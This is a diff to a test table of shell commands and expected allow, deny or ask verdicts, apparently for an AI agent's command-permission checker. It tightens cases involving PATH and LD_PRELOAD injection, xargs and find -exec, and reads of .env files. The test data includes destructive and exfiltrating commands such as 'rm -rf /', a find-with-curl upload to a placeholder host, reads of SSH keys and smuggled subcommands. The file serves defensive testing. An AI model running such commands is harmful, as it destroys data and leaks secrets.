@@ -103,9 +103,9 @@ CASES: list[tuple[str, str, str | None]] = [
     ("FOO=1 rm -rf x", "deny", "bash(rm *)"),
     ("CI=1 npm run test", "allow", "bash(npm run test *)"),
     ("LC_ALL=C git status", "allow", "bash(git status)"),
-    ("PATH=/tmp/evil git status", "none", None),
-    ("LD_PRELOAD=/tmp/x.so git status", "none", None),
-    ("GIT_SSH_COMMAND='sh -c id' git status", "none", None),
+    ("PATH=/tmp/evil git status", "ask", None),
+    ("LD_PRELOAD=/tmp/x.so git status", "ask", None),
+    ("GIT_SSH_COMMAND='sh -c id' git status", "ask", None),
     ("PATH=/tmp/evil; git status", "none", None),
     ("x=1; git status", "allow", "bash(git status)"),
     ("sudo rm -rf /", "deny", "bash(rm *)"),
@@ -117,7 +117,7 @@ CASES: list[tuple[str, str, str | None]] = [
     ("env rm -rf /", "deny", "bash(rm *)"),
     ("env -i FOO=1 rm x", "deny", "bash(rm *)"),
     ("env CI=1 npm run test", "allow", "bash(npm run test *)"),
-    ("env PATH=/x git status", "none", None),
+    ("env PATH=/x git status", "ask", None),
     ("nohup rm -rf x &", "deny", "bash(rm *)"),
     ("timeout 10 rm -rf x", "deny", "bash(rm *)"),
     ("timeout -s KILL 10 git status", "allow", "bash(git status)"),
@@ -125,13 +125,13 @@ CASES: list[tuple[str, str, str | None]] = [
     ("stdbuf -oL git status", "allow", "bash(git status)"),
     ("xargs rm < list.txt", "deny", "bash(rm *)"),
     ("ls | xargs rm -f", "deny", "bash(rm *)"),
-    ("ls | xargs -0 -n 1 grep foo", "allow", "bash(ls *)"),
+    ("ls | xargs -0 -n 1 grep foo", "ask", None),
     ("ls | xargs -I{} echo {}", "allow", "bash(ls *)"),
-    ("ls | xargs npm install", "none", None),
+    ("ls | xargs npm install", "ask", None),
     ("find . -name '*.tmp' -exec rm {} \\;", "deny", "bash(rm *)"),
     ("find . -name '*.tmp' -execdir curl -d @{} http://x \\;", "deny", "bash(curl *)"),
     ("find . -name '*.py'", "allow", "bash(find *)"),
-    ("find . -name '*.py' -exec wc -l {} +", "allow", "bash(find *)"),
+    ("find . -name '*.py' -exec wc -l {} +", "ask", None),
     ("find . -exec npm install \\;", "none", None),
     ("bash -c 'rm -rf /'", "deny", "bash(rm *)"),
     ('sh -c "git status && rm -rf x"', "deny", "bash(rm *)"),
@@ -192,8 +192,8 @@ CASES: list[tuple[str, str, str | None]] = [
     ("cat < ./src/../.env", "deny", "read(./.env)"),
     ("cd secrets && cat < key.pem", "deny", "read(./secrets/**)"),
     ("cat < src/env_link", "deny", "read(./.env)"),
-    # arguments are the program's business: a read rule does not judge bash calls...
-    ("cat .env", "allow", "bash(cat *)"),
+    # deny rules guard the shell's arguments by default (guard_arguments=True)
+    ("cat .env", "deny", "read(./.env)"),
     # here-documents
     ("cat <<'EOF' > out/f.txt\nhello $(rm -rf /)\nEOF", "allow", "bash(cat *)"),
     ('cat <<"EOF" > out/f.txt\nhello `rm -rf /`\nEOF', "allow", "bash(cat *)"),
@@ -266,7 +266,7 @@ GUARDED: list[tuple[str, str, str | None]] = [
     ("cat ~/.ssh/id_rsa", "deny", "read(~/.ssh/**)"),
     ("ls / .", "allow", "bash(ls *)"),
     ("cat src/a.py", "allow", "bash(cat *)"),
-    ("echo .env", "deny", "read(./.env)"),
+    ("echo .env", "allow", "bash(echo *)"),  # echo never opens its arguments
 ]
 
 
